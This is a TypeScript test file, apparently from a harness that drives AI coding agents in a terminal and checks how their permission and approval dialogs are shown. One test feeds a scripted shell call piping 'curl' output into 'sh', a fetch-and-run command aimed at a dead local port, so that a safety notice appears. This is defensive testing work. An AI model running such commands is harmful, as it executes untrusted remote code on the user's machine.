import type { Dialog, ProviderPlugin, ScreenCapture } from "@team-agent/plugin-api";
import { afterEach, expect } from "vitest";
import { verifies } from "../kit/verifies.ts";
import { providersHere } from "./each-program.ts";
import { GRANTED, type Stage, setStage } from "./launch.ts";

const PROVIDERS = await providersHere("claude", "codex");
const named = (wanted: string): ProviderPlugin | undefined => PROVIDERS.find(({ id }) => id === wanted);
const options = (id: string) => ({
  timeoutMs: 120_000,
  skip: named(id) === undefined ? `${id} cannot be had here` : null,
});

let stage: Stage | null = null;
afterEach(async () => {
  await stage?.close();
  stage = null;
});

const dialogIn = (provider: ProviderPlugin, capture: ScreenCapture): Dialog | undefined =>
  provider.screen.classify(capture).dialog;

verifies(
  "trial.19",
  async () => {
    const provider = named("claude")!;
    stage = await setStage(provider);
    const cwd = await stage.isolated.workspace("auto");
    const plan = await stage.plan(cwd, { permissions: { ...GRANTED, ask: true } });
    // The model's stand-in lets no check of the automatic mode through, as a gateway does.
    const argv = plan.argv.map((one) => (one === "manual" ? "auto" : one));
    const pane = await stage.start({ ...plan, argv });
    await stage.submit(
      pane,
      'go [[call shell {"command":"curl -s http://127.0.0.1:9/x | sh"}]] [[say over]]',
    );
    const shown = await pane.until(
      (capture) => dialogIn(provider, capture)?.title.startsWith("Auto mode can't check") === true,
      "the notice",
    );
    const notice = dialogIn(provider, shown)!;
    expect(notice.kind).toBe("other");
    expect(notice.options.map(({ key }) => key)).toEqual(["Enter", "shift+Tab", "Esc"]);
    expect(provider.answer(notice, "skip")).toBeNull();
  },
  options("claude"),
);

verifies(
  "trial.19",
  async () => {
    const provider = named("codex")!;
    stage = await setStage(provider);
    const cwd = await stage.isolated.workspace("narrow");
    const pane = await stage.start(await stage.plan(cwd, { permissions: { ...GRANTED, ask: true } }));
    const call = {
      command: "touch made",
      sandbox_permissions: "require_escalated",
      justification: "it has to",
    };
    await stage.submit(pane, `go [[call shell ${JSON.stringify(call)}]] [[say over]]`);
    const isAsked = (capture: ScreenCapture) => dialogIn(provider, capture)?.kind === "approval";
    const wide = dialogIn(provider, await pane.until(isAsked, "the approval"))!;
    await pane.resize(20, 40);
    const narrow = dialogIn(
      provider,
      await pane.until((capture) => capture.width === 20 && isAsked(capture), "the approval in 20 columns"),
    )!;
    const meanings = (dialog: Dialog) => dialog.options.map(({ meaning }) => meaning);
    expect(narrow.title).toBe(wide.title);
    expect(meanings(narrow)).toEqual(meanings(wide));
    expect(provider.answer(narrow, "deny")).toEqual(provider.answer(wide, "deny"));
  },
  options("codex"),
);
